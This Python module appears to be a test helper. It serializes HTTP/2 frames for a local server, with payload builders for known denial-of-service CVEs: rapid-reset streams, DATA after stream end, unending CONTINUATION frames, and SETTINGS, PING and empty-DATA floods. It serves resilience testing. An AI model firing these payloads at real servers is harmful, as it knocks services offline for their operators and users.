"""What attackers send over HTTP/2: frames as bytes, made once and sent again and again (RFC 9113 section 6)."""

from __future__ import annotations

from h2.errors import ErrorCodes
from hpack import Encoder
from hpack.struct import NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_WIDE_OPEN = (1 << 31) - 1 - 65_535
AUTHORITY = "127.0.0.1"


def greeting(initial_window: int | None = None) -> bytes:
    """Return what a connection begins with: preface, settings, and a connection window that never closes."""
    settings = {} if initial_window is None else {SettingsFrame.INITIAL_WINDOW_SIZE: initial_window}
    return PREFACE + SettingsFrame(0, settings).serialize() + WindowUpdateFrame(0, _WIDE_OPEN).serialize()


def block(method: str, path: str, *fields: tuple[str, str]) -> bytes:
    """Return a request's header block; it leaves the dynamic table alone, so that it can be sent any number of times."""
    pseudo = [(":method", method), (":scheme", "http"), (":path", path), (":authority", AUTHORITY)]
    return Encoder().encode([NeverIndexedHeaderTuple(name, value) for name, value in [*pseudo, *fields]])


def headers(stream: int, fields: bytes, *, ends: bool, whole: bool = True) -> bytes:
    """Return HEADERS that `ends` the stream or not, and holds the `whole` block or its beginning."""
    flags = [name for name, is_set in (("END_STREAM", ends), ("END_HEADERS", whole)) if is_set]
    return HeadersFrame(stream, fields, flags=flags).serialize()


def data(stream: int, body: bytes) -> bytes:
    """Return DATA that is not the last."""
    return DataFrame(stream, body).serialize()


def cancelled(streams: range, fields: bytes) -> bytes:
    """Return a request and its RST_STREAM for each stream (CVE-2023-44487)."""
    return b"".join(
        headers(stream, fields, ends=True) + RstStreamFrame(stream, ErrorCodes.CANCEL).serialize() for stream in streams
    )


def overrun(streams: range, fields: bytes) -> bytes:
    """Return a whole request and DATA behind its end for each stream, so that the server resets it (CVE-2025-8671)."""
    return b"".join(headers(stream, fields, ends=True) + data(stream, bytes(16)) for stream in streams)


def continuations(stream: int, count: int) -> bytes:
    """Return parts of a header block that does not end (CVE-2024-27316): literals that are not indexed."""
    part = b"\x00\x01x\x0c" + b"x" * 12
    return ContinuationFrame(stream, part).serialize() * count


def settings(count: int) -> bytes:
    """Return SETTINGS, each of which is to be acknowledged (CVE-2019-9515)."""
    return SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize() * count


def pings(count: int) -> bytes:
    """Return PINGs, each of which is to be answered (CVE-2019-9512)."""
    return PingFrame(0, b"pingpong").serialize() * count


def empty_data(stream: int, count: int) -> bytes:
    """Return DATA of nothing that is not the last (CVE-2019-9518)."""
    return data(stream, b"") * count
